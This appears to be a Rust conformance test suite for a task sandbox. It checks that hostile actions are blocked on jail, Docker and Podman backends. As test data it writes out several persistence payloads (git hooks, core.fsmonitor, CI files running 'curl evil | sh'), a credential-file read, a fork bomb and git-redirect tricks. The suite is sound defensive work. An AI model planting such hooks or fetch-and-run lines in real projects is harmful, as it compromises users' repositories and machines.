//! One conformance suite for every backend: the same hostile and benign cases
//! run against `jail`, `docker` and `podman`, with the same expected verdicts,
//! asserting the effect (the write did not happen, the listener was never
//! reached) as well as the verdict. Where a backend cannot observe something,
//! the case says so and SECURITY.md §10 has the row.
//!
//! Container cases need the Docker engine and Podman's API service
//! (`.ci/run` starts it); a missing engine fails them loudly. After every
//! container case no container of that task may be left behind.

use crate::harness::*;
use std::process::Command;
use std::sync::OnceLock;
use std::time::Duration;

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Backend {
    Jail,
    Docker,
    Podman,
}

impl Backend {
    fn name(self) -> &'static str {
        match self {
            Backend::Jail => "jail",
            Backend::Docker => "docker",
            Backend::Podman => "podman",
        }
    }
    fn container(self) -> bool {
        self != Backend::Jail
    }
}

fn attack_static() -> &'static std::path::Path {
    static BIN: OnceLock<std::path::PathBuf> = OnceLock::new();
    BIN.get_or_init(|| compile_c_static("attack"))
}

/// One case's world: the workspace (owned by a non-root user for containers,
/// whose task never runs as root) with the static attack helper in it.
struct Case {
    e: Env,
    b: Backend,
    name: String,
}

fn case(b: Backend, name: &str) -> Case {
    let e = env();
    std::fs::copy(attack_static(), e.ws.join("attack")).unwrap();
    if b.container() {
        container_setup();
        chown_tree(&e.ws, 1000);
    }
    let name = format!("conf-{name}-{}-{}", b.name(), std::process::id());
    Case { e, b, name }
}

impl Case {
    /// `tests/support/<prog>.c` built static, as `./<prog>` in the workspace
    /// (the container's task user's).
    fn with_static(&self, prog: &str) {
        let bin = self.e.ws.join(prog);
        std::fs::copy(compile_c_static(prog), &bin).unwrap();
        if self.b.container() {
            chown_tree(&bin, 1000);
        }
    }
    fn run_with(&self, policy: &str, extra: &[&str], argv: &[&str]) -> Out {
        let mut args = vec!["--backend", self.b.name(), "--name", &self.name];
        args.extend_from_slice(extra);
        let c = self.e.cmd(policy, &args, argv);
        if self.b.container() {
            container_setup();
        }
        let o = self.e.run_cmd(c);
        if self.b.container() {
            let left = containers_left(self.b.name(), &format!("orchestra.task={}", self.name));
            assert!(left.is_empty(), "{} left containers behind: {left:?}", self.b.name());
        }
        o
    }
    fn run(&self, policy: &str, argv: &[&str]) -> Out {
        self.run_with(policy, &[], argv)
    }
    fn sh(&self, policy: &str, script: &str) -> Out {
        self.run(policy, &["/bin/sh", "-c", script])
    }
    fn attack(&self, args: &[&str]) -> Out {
        let mut argv = vec!["./attack"];
        argv.extend_from_slice(args);
        self.run("default", &argv)
    }
    fn policy(&self, name: &str, yaml: &str) -> String {
        self.e.policy(name, yaml)
    }
}

// ---- the cases -------------------------------------------------------------

fn benign_script_runs_and_writes_the_workspace(b: Backend) {
    let c = case(b, "benign");
    let o =
        c.sh("default", "set -e; for i in 1 2 3; do echo line$i; done | sort -r > out.txt; cat out.txt; echo err >&2");
    o.assert_ok();
    assert_eq!(o.stdout, "line3\nline2\nline1\n");
    assert!(o.stderr.starts_with("err\n"), "{}", o.stderr);
    assert_eq!(std::fs::read_to_string(c.e.ws.join("out.txt")).unwrap(), "line3\nline2\nline1\n");
    assert_eq!(o.report["backend"], b.name());
}

/// Every byte a task writes reaches orchestra's own output, in order, even when
/// it exits the moment it is done (the containers' output is read up to the
/// init's exit, not up to the engine closing a stream).
fn output_is_relayed_whole_and_in_order(b: Backend) {
    let c = case(b, "whole");
    let o = c.sh("default", "yes 0123456789abcdef | head -c 3145728; echo; echo END; echo tail-of-stderr >&2");
    o.assert_ok();
    let expected: String = "0123456789abcdef\n".repeat(3145728 / 17 + 1)[..3145728].to_string() + "\nEND\n";
    assert_eq!(o.stdout.len(), expected.len(), "stdout was cut or padded");
    assert!(o.stdout == expected, "stdout differs from what the task wrote");
    assert!(o.stderr.starts_with("tail-of-stderr\n"), "{}", o.stderr);
    assert_eq!(o.report["output_bytes"], expected.len() + "tail-of-stderr\n".len());
}

fn a_failing_task_is_failed_not_a_violation(b: Backend) {
    let c = case(b, "fail");
    let o = c.sh("default", "exit 3");
    assert_eq!(o.code, 2, "{}", o.stderr);
    assert_eq!(o.report["cause"], "child_exit");
    assert_eq!(o.report["exit_status"], 3);
}

fn writing_outside_the_workspace_is_blocked_and_reported(b: Backend) {
    let c = case(b, "etc");
    let marker = format!("/etc/orchestra-conf-{}-{}", b.name(), std::process::id());
    let o = c.sh("default", &format!("echo pwned > {marker}"));
    o.assert_violation("fs.write");
    assert!(!std::path::Path::new(&marker).exists());
}

fn writing_dot_orchestra_is_blocked_and_reported(b: Backend) {
    let c = case(b, "dot");
    let o = c.sh("default", "echo forged > .orchestra/planted");
    o.assert_violation("fs.write");
    assert!(!c.e.ws.join(".orchestra/planted").exists());
}

fn egress_to_a_host_listener_is_blocked_and_reported(b: Backend) {
    let c = case(b, "egress");
    let (l, ip, port) = host_listener();
    // network: none — any IP socket is a violation.
    let offline = c.policy("offline", "network:\n  mode: none\n");
    let o = c.run(&offline, &["./attack", "connect-ip", "127.0.0.1", &port]);
    o.assert_violation("network.none");
    assert!(!o.stdout.contains("ESCAPED"), "{}", o.stdout);
    // default — the task's own private loopback: the host's is not reached (and
    // nothing forbidden was tried); a host address is a violation.
    let o = c.attack(&["connect-ip", "127.0.0.1", &port]);
    assert!(!o.stdout.contains("ESCAPED"), "{}", o.stdout);
    o.assert_ok();
    let o = c.attack(&["connect-ip", &ip, &port]);
    o.assert_violation("network.loopback");
    assert!(!o.stdout.contains("ESCAPED"), "{}", o.stdout);
    assert!(l.accept().is_err(), "the host listener was reached");
}

fn ptrace_is_blocked_and_reported(b: Backend) {
    case(b, "ptrace").attack(&["ptrace"]).assert_blocked("syscall.ptrace");
}

fn mount_is_blocked_and_reported(b: Backend) {
    case(b, "mount").attack(&["mount"]).assert_blocked("syscall.mount");
}

fn unshare_is_blocked_and_reported(b: Backend) {
    case(b, "unshare").attack(&["unshare"]).assert_blocked("syscall.namespaces");
}

fn bpf_is_blocked_and_reported(b: Backend) {
    case(b, "bpf").attack(&["bpf"]).assert_blocked("syscall.bpf");
}

/// Using a ring is the class's violation: `io_uring_enter` (on stdin, since
/// `io_uring_setup` gave no ring) is reported and the task stopped.
fn io_uring_is_blocked_and_reported(b: Backend) {
    let o = case(b, "uring").attack(&["io_uring"]);
    o.assert_blocked("syscall.io_uring");
    assert!(o.stdout.contains("blocked io_uring_setup: Function not implemented"), "{}", o.all());
    assert!(details(&o).contains("io_uring_enter"), "{}", details(&o));
}

/// What libuv ≥ 1.45 (Node.js ≥ 20, CMake ≥ 3.28) does at every event loop
/// start: `io_uring_setup` answers ENOSYS (libuv falls back to epoll), no
/// violation, exit 0; the report's seccomp attestation says so.
fn an_io_uring_probe_gets_enosys_without_a_violation(b: Backend) {
    let o = case(b, "uring-probe").attack(&["io_uring-probe"]);
    o.assert_ok();
    assert_eq!(o.stdout, "blocked io_uring_setup: Function not implemented\n");
    let seccomp = o.report["enforced"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|c| c["control"].as_str().is_some_and(|n| n.ends_with("seccomp")))
        .filter_map(|c| c["detail"].as_str())
        .collect::<Vec<_>>()
        .join("\n");
    assert!(seccomp.contains("io_uring_setup -> ENOSYS (not reported)"), "{}: {seccomp}", b.name());
    if b.container() {
        // Without the supervisor the engine's profile gives the same answers
        // (one table): ENOSYS for the probe, EPERM for io_uring_enter.
        let c = case(b, "uring-nosup");
        let p = c.policy("nosup", "container:\n  supervisor: off\n");
        let o = c.run(&p, &["./attack", "io_uring-probe"]);
        o.assert_ok();
        assert_eq!(o.stdout, "blocked io_uring_setup: Function not implemented\n");
        let o = c.run(&p, &["./attack", "io_uring"]);
        assert_eq!(o.code, 0, "{}", o.all());
        assert!(o.stdout.contains("blocked io_uring_enter: Operation not permitted"), "{}", o.stdout);
        assert!(!o.stdout.contains("ESCAPED"), "{}", o.stdout);
    }
}

fn keyring_is_blocked_and_reported(b: Backend) {
    case(b, "keyctl").attack(&["keyctl"]).assert_blocked("syscall.keyring");
}

fn memory_hog_is_stopped_and_reported(b: Backend) {
    let c = case(b, "mem");
    let p = c.policy("mem", "limits:\n  memory: 128MiB\n");
    let o = c.run(&p, &["./attack", "memhog", "2048"]);
    o.assert_violation("limits.memory");
    assert!(!o.stdout.contains("ESCAPED"));
}

fn fork_bomb_is_stopped_and_reported(b: Backend) {
    let c = case(b, "pids");
    let p = c.policy("pids", "limits:\n  pids: 64\ntimeouts:\n  wall: 30s\n");
    let o = c.run(&p, &["./attack", "forkbomb"]);
    o.assert_violation("limits.pids");
    assert!(!o.stdout.contains("ESCAPED"));
    std::thread::sleep(Duration::from_millis(200));
    assert!(processes_with(&format!("{}/attack", c.e.ws.display())).is_empty());
}

fn output_flood_is_cut_and_reported(b: Backend) {
    let c = case(b, "flood");
    let p = c.policy("out", "limits:\n  output: 1MiB\n");
    let o = c.run(&p, &["yes", "flood"]);
    o.assert_violation("limits.output");
    assert!(o.stdout.len() <= 1 << 20, "relayed {} bytes", o.stdout.len());
}

fn the_wall_clock_timeout_exits_3_and_kills_daemons(b: Backend) {
    let c = case(b, "timeout");
    let script = "(setsid sh -c 'while :; do echo tick >> daemon.log; sleep 0.05; done' &); sleep 60";
    let o = c.run_with("default", &["--timeout", "1500ms"], &["/bin/sh", "-c", script]);
    assert_eq!(o.code, 3, "{}", o.stderr);
    assert_eq!(o.report["cause"], "timeout");
    // Our kill, on every backend (Podman may remove the container before it is asked).
    assert_eq!(o.report["error"], "timeouts.wall exceeded", "{}", o.report);
    let len = || std::fs::metadata(c.e.ws.join("daemon.log")).map(|m| m.len()).unwrap_or(0);
    let before = len();
    assert!(before > 0, "the daemon never ran");
    std::thread::sleep(Duration::from_millis(400));
    assert_eq!(len(), before, "the daemon survived the task");
}

/// Review 86 F7 on every backend: a canary read in the last moments before
/// the wall-clock deadline is still found (the jail's init, or the
/// in-container supervisor the host orders to stop, makes its final checks
/// after killing the task) and beats the timeout: exit 4 with the rule, in
/// the report and the audit log. Containers used to be killed at the
/// deadline, report and all: exit 3 without a rule.
fn a_canary_read_just_before_the_wall_timeout_is_reported_and_recorded(b: Backend) {
    let mut checked = false;
    // The task starts a moment after the deadline's clock (the container, the
    // jail): a read that came after the deadline proves nothing, try earlier.
    for (i, delay) in ["2.7", "2.5", "2.1"].iter().enumerate() {
        let c = case(b, &format!("late-read-{i}"));
        let script = format!("sleep {delay}; cat ~/.aws/credentials > /dev/null; : > read-done; sleep 60");
        let o = c.run_with("default", &["--timeout", "3s"], &["/bin/sh", "-c", &script]);
        if !c.e.ws.join("read-done").exists() {
            continue;
        }
        assert_eq!(o.code, 4, "a violation beats the timeout: {}", o.all());
        o.assert_violation("canary.read");
        c.e.assert_violations_recorded(&["canary.read"]);
        checked = true;
        break;
    }
    assert!(checked, "{}: the task never read before its timeout, even 0.9 s ahead", b.name());
}

/// A violation the task survived (`on_violation: deny`) and then a timeout:
/// the denial stands (the file was never written) and is reported, exit 4.
/// Containers used to lose it with the supervisor's report at the kill.
fn a_violation_the_task_survived_is_kept_when_it_later_times_out(b: Backend) {
    let c = case(b, "deny-timeout");
    let marker = format!("/etc/orchestra-conf-late-{}-{}", b.name(), std::process::id());
    let p = c.policy("deny", "on_violation: deny\n");
    let script = format!("echo pwned > {marker}; : > denied-done; sleep 60");
    let o = c.run_with(&p, &["--timeout", "2s"], &["/bin/sh", "-c", &script]);
    assert!(c.e.ws.join("denied-done").exists(), "the task did not survive its denial: {}", o.all());
    assert!(!std::path::Path::new(&marker).exists());
    assert_eq!(o.code, 4, "the violation beats the timeout: {}", o.all());
    o.assert_violation("fs.write");
    let recs = c.e.audit_records();
    assert!(
        recs.iter().any(|r| r["kind"] == "violation" && r["body"].to_string().contains("fs.write")),
        "no fs.write violation record in the audit log: {recs:?}"
    );
}

/// Review 89 F2: a denied write, then 100,001 names the disk meter notes
/// (the init's final checks sweep them all), then a wall timeout. The
/// container's supervisor is still checking when the host's grace ends;
/// the violation judged long before must survive the kill: exit 4 with
/// `fs.write` in the report and the audit log, the file never written,
/// nothing left. Docker used to lose it with the report (exit 3).
fn a_violation_judged_before_a_timeout_survives_long_final_checks(b: Backend) {
    let c = case(b, "deny-padded");
    let p = c.policy("deny", "on_violation: deny\n");
    let script = "echo forged > .orchestra/planted; : > denied-done; ./attack unlink-missing 100001; sleep 60";
    let o = c.run_with(&p, &["--timeout", "9s"], &["/bin/sh", "-c", script]);
    assert!(c.e.ws.join("denied-done").exists(), "the task did not survive its denial: {}", o.all());
    assert!(!c.e.ws.join(".orchestra/planted").exists(), "the denied write happened");
    assert_eq!(o.code, 4, "the violation beats the timeout: {}", o.all());
    o.assert_violation("fs.write");
    assert_eq!(o.report["error"], "timeouts.wall exceeded", "{}", o.report);
    c.e.assert_violations_recorded(&["fs.write"]);
}

/// A task that merely outlives its wall-clock timeout: exit 3, no violation,
/// our kill named as the cause (the supervisor's stop order is no interrupt),
/// nothing of it left (`run_with` checks the engine's containers, `ps -a`).
/// In a container the supervisor stops the task and reports before the
/// container is killed: its controls are in the report.
fn a_plain_sleep_past_the_wall_timeout_exits_3_without_a_violation(b: Backend) {
    let c = case(b, "plain-timeout");
    let t0 = std::time::Instant::now();
    let o = c.run_with("default", &["--timeout", "1500ms"], &["sleep", "60"]);
    assert_eq!(o.code, 3, "{}", o.all());
    assert_eq!(o.report["cause"], "timeout", "{}", o.report);
    assert_eq!(o.report["error"], "timeouts.wall exceeded", "{}", o.report);
    assert!(o.rules().is_empty(), "a timeout is no violation: {:?}", o.rules());
    assert!(t0.elapsed() < Duration::from_secs(30), "the timeout took {:?}", t0.elapsed());
    if b.container() {
        let controls = o.report["enforced"].to_string();
        assert!(controls.contains("supervisor."), "the supervisor did not report at the timeout: {}", o.report);
    }
}

fn the_orchestrators_environment_never_reaches_the_task(b: Backend) {
    let c = case(b, "env");
    let o = c.sh("default", "env; cat /proc/1/environ 2>&1; true");
    assert!(!o.all_output().contains(ENV_CANARY), "{}", o.stdout);
    assert!(!o.all_output().contains("ORCHESTRA_"), "{}", o.stdout);
}

/// Issue 15 item 1: a set-uid/set-gid copy of a binary planted in the workspace
/// (a host user who runs it later gets the task's identity). Denied, reported,
/// and no file with either bit is left.
fn setuid_files_are_blocked_and_reported(b: Backend) {
    use std::os::unix::fs::PermissionsExt;
    let c = case(b, "setuid");
    let o = c.sh("default", "cp ./attack ./t && chmod 6755 ./t; exit 0");
    let mode = std::fs::metadata(c.e.ws.join("t")).map(|m| m.permissions().mode()).unwrap_or(0);
    assert_eq!(mode & 0o6000, 0, "{}: a set-ID file was left: {mode:o}\n{}", b.name(), o.all_output());
    o.assert_violation("fs.setuid");
}

/// `exec --ro DIR --rw DIR` on every backend (volumes on the containers): the
/// read-only directory is seen and not written, the writable one is written,
/// and the report records both flags.
fn one_off_path_flags_take_effect(b: Backend) {
    let c = case(b, "flags");
    // Outside the workspace and outside /work, where the containers keep it.
    let outside = tempfile::Builder::new().prefix("orchestra-it-flags-").tempdir_in("/var/tmp").unwrap();
    let (ro, rw) = (outside.path().join("ro-data"), outside.path().join("rw-out"));
    std::fs::create_dir_all(&ro).unwrap();
    std::fs::create_dir_all(&rw).unwrap();
    std::fs::write(ro.join("in.txt"), "input\n").unwrap();
    if b.container() {
        chown_tree(&rw, 1000);
    }
    let (ro_s, rw_s) = (ro.to_str().unwrap(), rw.to_str().unwrap());
    let flags = ["--ro", ro_s, "--rw", rw_s];
    let o = c.run_with("default", &flags, &["/bin/sh", "-c", &format!("cat {ro_s}/in.txt > {rw_s}/out.txt")]);
    o.assert_ok();
    assert_eq!(std::fs::read_to_string(rw.join("out.txt")).unwrap(), "input\n");
    let recorded = o.report["policy_derivation"]["overrides"].to_string();
    assert!(recorded.contains(&format!("--ro {ro_s}")) && recorded.contains(&format!("--rw {rw_s}")), "{recorded}");
    let w = c.run_with("default", &flags, &["/bin/sh", "-c", &format!("echo evil > {ro_s}/in.txt")]);
    assert_eq!(std::fs::read_to_string(ro.join("in.txt")).unwrap(), "input\n", "{}", w.all());
    w.assert_violation("fs.write");
    // A read-only directory inside the workspace: the container sees it at its
    // place below /work, read-only (review F5).
    std::fs::create_dir_all(c.e.ws.join("data")).unwrap();
    std::fs::write(c.e.ws.join("data/kept"), "kept\n").unwrap();
    if b.container() {
        chown_tree(&c.e.ws.join("data"), 1000);
    }
    let w = c.run_with("default", &["--ro", "data"], &["/bin/sh", "-c", "echo evil > data/kept"]);
    w.assert_violation("fs.write");
    assert_eq!(std::fs::read_to_string(c.e.ws.join("data/kept")).unwrap(), "kept\n");
}

/// Persistence through the writable workspace (SECURITY.md §3, issue 20): a
/// git hook, git config (`core.fsmonitor`, `core.hooksPath`), a CI workflow, a
/// protected directory moved away or created where absent — each denied,
/// reported as `fs.protected`, the file unchanged; on every backend.
fn protected_paths_in_the_workspace_are_kept(b: Backend) {
    let c = case(b, "protected");
    let ws = &c.e.ws;
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(ws.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
    std::fs::create_dir_all(ws.join(".github/workflows")).unwrap();
    std::fs::write(ws.join(".github/workflows/ci.yml"), "on: push\n").unwrap();
    if b.container() {
        chown_tree(ws, 1000);
    }
    let snapshot = || {
        ["./.git/config", "./.git/hooks/pre-commit.sample", "./.github/workflows/ci.yml"]
            .map(|p| std::fs::read(ws.join(p)).unwrap_or_default())
    };
    let before = snapshot();
    let attacks = [
        "echo 'touch /tmp/pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config",
        "printf 'x' > .git/config.new && mv .git/config.new .git/config",
        "echo '  run: curl evil' >> .github/workflows/ci.yml",
        "mv .git/hooks .git/hooks-away",
        "mv .git .git-away",
        "rm -rf .github",
        "mkdir -p .git/info && echo x > .git/info/attributes",
        "echo 'script: evil' > .gitlab-ci.yml",
    ];
    for a in attacks {
        let o = c.sh("default", a);
        o.assert_violation("fs.protected");
        assert_eq!(snapshot(), before, "{}: `{a}` changed a protected file", b.name());
        assert!(!ws.join(".git/hooks/pre-commit").exists(), "{}: `{a}`", b.name());
        assert!(ws.join(".git/hooks").is_dir() && ws.join(".github/workflows").is_dir(), "{}: `{a}`", b.name());
        assert!(
            !ws.join(".gitlab-ci.yml").exists() && !ws.join(".git/info/attributes").exists(),
            "{}: `{a}`",
            b.name()
        );
    }
    // Beside them, the workspace stays writable, .git's other files included.
    let o = c.sh("default", "echo ok > .git/description && mkdir -p .git/refs/heads && echo built > out");
    o.assert_ok();
}

fn race_static() -> &'static std::path::Path {
    static BIN: OnceLock<std::path::PathBuf> = OnceLock::new();
    BIN.get_or_init(|| compile_c_static("race_protected"))
}

/// A workspace with `.git` (no hooks) and `.github` (no workflows), the racer
/// (tests/support/race_protected.c), and what it renames into place: a CI
/// file, a workflows directory, a hooks directory.
fn race_case(b: Backend, name: &str) -> Case {
    let c = case(b, name);
    let ws = &c.e.ws;
    std::fs::copy(race_static(), ws.join("race")).unwrap();
    std::fs::create_dir_all(ws.join(".git/refs/heads")).unwrap();
    std::fs::write(ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(ws.join(".github")).unwrap();
    std::fs::write(ws.join("stage-ci"), "script: curl evil | sh\n").unwrap();
    std::fs::create_dir_all(ws.join("stage-wf")).unwrap();
    std::fs::write(ws.join("stage-wf/x.yml"), "on: push\njobs: {evil: {runs-on: x, steps: [{run: evil}]}}\n").unwrap();
    std::fs::create_dir_all(ws.join("stage-hooks")).unwrap();
    std::fs::write(ws.join("stage-hooks/pre-commit"), "#!/bin/sh\ntouch /tmp/pwned\n").unwrap();
    if b.container() {
        chown_tree(ws, 1000);
    }
    c
}

/// The details of the report's violations, one per line.
fn details(o: &Out) -> String {
    o.report["violations"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|v| v["detail"].as_str())
        .collect::<Vec<_>>()
        .join("\n")
}

/// SECURITY.md §5.3: a protected path absent when the task starts stays absent
/// whatever a task racing the supervisor does. The racer renames a prepared
/// entry to a name another thread rewrites, one byte, from a benign name to the
/// protected one while the call waits on the supervisor (under `on_violation:
/// deny`, so it tries again after every refusal: the strongest racer). Past
/// the supervisor, the host's check after the task finds the entry and removes
/// it: exit 4, `fs.protected`, nothing left. Without a race the supervisor's
/// own refusal is what is reported, as before.
fn a_protected_path_absent_at_the_start_stays_absent_whatever_the_race(b: Backend) {
    for (src, target) in
        [("stage-ci", ".gitlab-ci.yml"), ("stage-wf", ".github/workflows"), ("stage-hooks", ".git/hooks")]
    {
        let c = race_case(b, "race");
        let deny = c.policy("deny", "on_violation: deny\n");
        let o = c.run(&deny, &["./race", src, target]);
        o.assert_violation("fs.protected");
        let left = std::fs::symlink_metadata(c.e.ws.join(target));
        assert!(left.is_err(), "{}: {target} is left after the race\n{}", b.name(), o.all());
        if o.stdout.contains("ESCAPED") {
            // Won in the task: the host's check is what saw it.
            let d = details(&o);
            assert!(d.contains("a protected path absent when the task started, was created during the task"), "{d}");
            assert!(d.contains("; removed"), "{d}");
        }
        // The rest of the workspace is as the task left it.
        assert!(c.e.ws.join(".git/HEAD").is_file() && c.e.ws.join(".github").is_dir(), "{}", b.name());
    }
    // No race: the supervisor refuses the plain rename, as before.
    let c = race_case(b, "norace");
    let deny = c.policy("deny", "on_violation: deny\n");
    let o = c.run(&deny, &["./race", "stage-ci", ".gitlab-ci.yml", "0"]);
    o.assert_violation("fs.protected");
    assert!(o.stdout.contains("blocked rename without a race"), "{}", o.all());
    assert!(details(&o).contains("a protected path ("), "{}", details(&o));
    assert!(!c.e.ws.join(".gitlab-ci.yml").exists());
    assert_eq!(std::fs::read_to_string(c.e.ws.join("stage-ci")).unwrap(), "script: curl evil | sh\n");
}

/// A link made during the task that leads a protected path somewhere — into
/// the workspace, or to another project's workflows on the host — is removed
/// by the host's check after the task (exit 4, `fs.protected`); what it
/// pointed at is not touched.
fn a_link_that_makes_an_absent_protected_path_reachable_is_removed(b: Backend) {
    let c = case(b, "link");
    let ws = &c.e.ws;
    let o = c.sh("default", "mkdir -p docs/workflows && echo 'on: push' > docs/workflows/x.yml && ln -s docs .github");
    o.assert_violation("fs.protected");
    assert!(std::fs::symlink_metadata(ws.join(".github")).is_err(), "{}: the link is left", b.name());
    assert_eq!(std::fs::read_to_string(ws.join("docs/workflows/x.yml")).unwrap(), "on: push\n");
    assert!(details(&o).contains("by ") && details(&o).contains("(a new symbolic link -> docs)"), "{}", details(&o));
    let other = c.e.root.join("other-project/.github");
    std::fs::create_dir_all(other.join("workflows")).unwrap();
    std::fs::write(other.join("workflows/ci.yml"), "on: push\n").unwrap();
    let o = c.sh("default", &format!("ln -s {} .github", other.display()));
    o.assert_violation("fs.protected");
    assert!(std::fs::symlink_metadata(ws.join(".github")).is_err(), "{}: the link is left", b.name());
    assert_eq!(std::fs::read_to_string(other.join("workflows/ci.yml")).unwrap(), "on: push\n");
}

/// What git finds at the workspace root cannot be redirected (review 56, F1,
/// F2): a `.git` pointer however written (a path past a newline, a NUL inside,
/// a link to a pointer file) where there was no `.git`, and the root itself
/// made a bare repository beside a `.git` left invalid. Each is exit 4,
/// `fs.protected`, and the host's git afterwards finds no planted repository.
fn git_discovery_cannot_be_redirected(b: Backend) {
    let plant = "mkdir -p \"$D/hooks\" \"$D/objects\" \"$D/refs\" && echo 'ref: refs/heads/main' > \"$D/HEAD\" \
                 && printf '#!/bin/sh\\necho planted\\n' > \"$D/hooks/pre-commit\" && chmod +x \"$D/hooks/pre-commit\"";
    for (label, pointer) in [
        ("newline", "D='.g\nx'; PLANT; printf 'gitdir: .g\\nx\\n' > .git"),
        ("nul", "D=evil; PLANT; printf 'gitdir: evil\\000junk\\n' > .git"),
        ("link", "D=evil; PLANT; printf 'gitdir: evil\\n' > ptr && ln -s ptr .git"),
    ] {
        let c = case(b, &format!("gitdir-{label}"));
        let o = c.sh("default", &format!("set -e; {}", pointer.replace("PLANT", plant)));
        o.assert_violation("fs.protected");
        assert!(std::fs::symlink_metadata(c.e.ws.join(".git")).is_err(), "{} {label}: .git is left", b.name());
        assert!(details(&o).contains("git takes it for a pointer"), "{}", details(&o));
        let found = Command::new("git")
            .args(["-c", "safe.directory=*", "rev-parse", "--git-dir"])
            .current_dir(&c.e.ws)
            .env("GIT_CEILING_DIRECTORIES", c.e.ws.parent().unwrap())
            .output()
            .unwrap();
        assert!(
            !found.status.success(),
            "{} {label}: host git found {}",
            b.name(),
            String::from_utf8_lossy(&found.stdout)
        );
    }
    let c = existing_case(b, "bare-root");
    let ws = &c.e.ws;
    std::fs::create_dir_all(ws.join(".git/objects")).unwrap();
    std::fs::create_dir_all(ws.join(".git/refs/heads")).unwrap();
    std::fs::write(ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    if b.container() {
        chown_tree(ws, 1000);
    }
    let script = format!(
        "set -e; cp -r .git/objects .git/refs .; cp .git/HEAD HEAD; mkdir -p hooks; D=.; {}; \
         printf '[core]\\n\\tbare = false\\n' > config; echo garbage > .git/HEAD",
        plant.replace("$D", ".")
    );
    let o = c.sh("default", &script);
    o.assert_violation("fs.protected");
    assert!(details(&o).contains("was made a git repository during the task"), "{}", details(&o));
    for m in ["HEAD", "objects", "refs"] {
        assert!(std::fs::symlink_metadata(ws.join(m)).is_err(), "{}: {m} is left", b.name());
    }
    // `.git` stays as the task left it (invalid): git finds no repository, rather than the planted one.
    let found = Command::new("git")
        .args(["-c", "safe.directory=*", "rev-parse", "--git-dir"])
        .current_dir(ws)
        .env("GIT_CEILING_DIRECTORIES", ws.parent().unwrap())
        .output()
        .unwrap();
    assert!(!found.status.success(), "{}: host git found {}", b.name(), String::from_utf8_lossy(&found.stdout));
}

/// Ordinary work beside protected paths that were absent is no violation and
/// is kept: a `.git` without hooks or config, `.github` without workflows,
/// files at the top of the workspace.
fn work_beside_absent_protected_paths_is_kept(b: Backend) {
    let c = case(b, "beside");
    let ws = &c.e.ws;
    let script = "set -e; mkdir -p .git/refs/heads .git/objects && echo 'ref: refs/heads/main' > .git/HEAD \
                  && mkdir -p .github && echo 'Describe the bug' > .github/ISSUE_TEMPLATE.md \
                  && echo built > out.txt && mkdir -p ci && echo 'not the CI file' > ci/.gitlab-ci.yml.example";
    let o = c.sh("default", script);
    o.assert_ok();
    assert!(ws.join(".git/HEAD").is_file() && ws.join(".git/objects").is_dir(), "{}", b.name());
    assert_eq!(std::fs::read_to_string(ws.join(".github/ISSUE_TEMPLATE.md")).unwrap(), "Describe the bug\n");
    assert_eq!(std::fs::read_to_string(ws.join("out.txt")).unwrap(), "built\n");
    assert!(ws.join("ci/.gitlab-ci.yml.example").is_file());
}

/// How a case's task runs: the backend's own default, or (on the jail) the
/// `container` preset — no namespaces, so no read-only bind pins a protected
/// path and the supervisor alone keeps it — with its audit log outside the
/// workspace (which that preset requires). Each flavour gets its own case.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Flavour {
    Default,
    NamespaceLess,
}

/// The flavours a backend is tested in: the jail both ways, a container
/// backend as it is (its in-container supervisor is already namespace-less).
fn flavours(b: Backend) -> &'static [Flavour] {
    if b.container() { &[Flavour::Default] } else { &[Flavour::Default, Flavour::NamespaceLess] }
}

impl Case {
    /// A policy of this flavour with `yaml` appended, and the arguments it needs.
    fn flavoured(&self, f: Flavour, name: &str, yaml: &str) -> (String, Vec<String>) {
        match f {
            Flavour::Default => (self.policy(name, yaml), Vec::new()),
            Flavour::NamespaceLess => {
                let _ = std::fs::remove_dir_all(self.e.ws.join(".orchestra"));
                let preset = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/policies/container.yaml"))
                    .unwrap()
                    .replace("\non_violation: kill\n", "\n");
                assert!(
                    preset.contains("namespaces: off") && !preset.contains("on_violation"),
                    "container.yaml changed shape"
                );
                let audit = self.e.root.join("audit-nsless").display().to_string();
                // Settings of `filesystem:` join the preset's own section.
                let text = match yaml.strip_prefix("filesystem:\n") {
                    Some(rest) => preset.replacen("\nfilesystem:\n", &format!("\nfilesystem:\n{rest}"), 1),
                    None => format!("{preset}{yaml}"),
                };
                (self.policy(name, &text), vec!["--audit-dir".to_string(), audit])
            }
        }
    }

    /// The audit directory this flavour's runs log to.
    fn audit_dir(&self, f: Flavour) -> std::path::PathBuf {
        match f {
            Flavour::Default => self.e.ws.join(".orchestra/audit"),
            Flavour::NamespaceLess => self.e.root.join("audit-nsless"),
        }
    }

    fn run_flavoured(&self, f: Flavour, policy: &(String, Vec<String>), argv: &[&str]) -> Out {
        let extra: Vec<&str> = policy.1.iter().map(String::as_str).collect();
        let o = self.run_with(&policy.0, &extra, argv);
        assert_ne!(o.code, 1, "{f:?}: the policy was refused: {}", o.stderr);
        o
    }
}

/// What a racer aims at when the protected path exists: a CI file, git's
/// config, a hook inside the protected hooks directory (whose every name is
/// refused: the byte rewritten is one of `hooks`, index 9).
const EXISTING: [(&str, Option<&str>); 3] =
    [(".gitlab-ci.yml", None), (".git/config", None), (".git/hooks/pre-commit", Some("9"))];

/// A race case whose protected paths exist: `.gitlab-ci.yml`, `.git/config`
/// and an executable `.git/hooks/pre-commit`.
fn existing_case(b: Backend, name: &str) -> Case {
    let c = race_case(b, name);
    let ws = &c.e.ws;
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join(".gitlab-ci.yml"), "test:\n  script: make test\n").unwrap();
    std::fs::write(ws.join(".git/config"), "[core]\n\trepositoryformatversion = 0\n\tbare = false\n").unwrap();
    std::fs::write(ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nexec make lint\n").unwrap();
